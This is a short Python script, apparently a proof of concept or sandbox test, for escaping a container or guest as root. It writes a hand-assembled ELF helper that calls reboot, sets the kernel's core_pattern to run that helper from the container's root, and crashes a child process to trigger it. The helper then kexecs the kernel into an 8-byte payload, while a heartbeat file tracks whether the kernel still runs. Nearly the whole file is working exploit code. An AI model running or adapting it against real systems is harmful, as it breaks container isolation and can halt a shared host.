"""Root in a guest starts another kernel: eight bytes of program in the kernel's place, given in hexadecimal.

kexec_load(2) takes it from anybody with CAP_SYS_BOOT. To start it takes the guest's first process' namespace of processes
(reboot(2)), so the kernel itself starts a program that does it, as its helper for core dumps. That is written by hand, since
nothing of a container runs outside of its root: x86-64, one segment, one system call."""

import ctypes, os, resource, signal, struct, sys, time

KEXEC_LOAD, REBOOT = 246, 169
# linux/reboot.h
MAGIC1, MAGIC2, RESTART_TO_KERNEL = 0xFEE1DEAD, 672274793, 0x45584543
PAGE, PLACE = 4096, 16 << 20
HELPER = "/restart"
libc = ctypes.CDLL(None, use_errno=True)


class Segment(ctypes.Structure):
    _fields_ = [("buffer", ctypes.c_char_p), ("size", ctypes.c_size_t), ("place", ctypes.c_size_t), ("memory", ctypes.c_size_t)]


def load(kernel):
    segment = Segment(kernel, len(kernel), PLACE, PAGE)
    if libc.syscall(KEXEC_LOAD, ctypes.c_ulong(PLACE), ctypes.c_ulong(1), ctypes.byref(segment), ctypes.c_ulong(0)):
        sys.exit(f"kexec_load: {os.strerror(ctypes.get_errno())}")


def helper():
    # mov edi, MAGIC1; mov esi, MAGIC2; mov edx, RESTART_TO_KERNEL; mov eax, REBOOT; syscall; ud2
    code = struct.pack("<BIBIBIBI", 0xBF, MAGIC1, 0xBE, MAGIC2, 0xBA, RESTART_TO_KERNEL, 0xB8, REBOOT) + b"\x0f\x05\x0f\x0b"
    base, header = 0x400000, 64 + 56
    size = header + len(code)
    elf = b"\x7fELF\2\1\1" + bytes(9)
    elf += struct.pack("<HHIQQQIHHHHHH", 2, 62, 1, base + header, 64, 0, 0, 64, 56, 1, 0, 0, 0)
    elf += struct.pack("<IIQQQQQQ", 1, 5, 0, base, base, size, size, PAGE)
    return elf + code


load(bytes.fromhex(sys.argv[1]))
with open(HELPER, "wb") as file:
    file.write(helper())
os.chmod(HELPER, 0o755)
with open("/proc/sys/kernel/core_pattern", "w") as pattern:
    # `%P` is the number of the process that ends; its root is the container's.
    pattern.write(f"|/../proc/%P/root{HELPER}")
open("/volume/gone", "w").close()
if os.fork() == 0:
    # Grows as long as this kernel runs.
    while True:
        with open("/volume/heartbeat", "a") as file:
            file.write(".")
        time.sleep(0.05)
resource.setrlimit(resource.RLIMIT_CORE, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
libc.prctl(4, 1)  # PR_SET_DUMPABLE
child = os.fork()
if child == 0:
    os.kill(os.getpid(), signal.SIGSEGV)
os.waitpid(child, 0)
signal.pause()
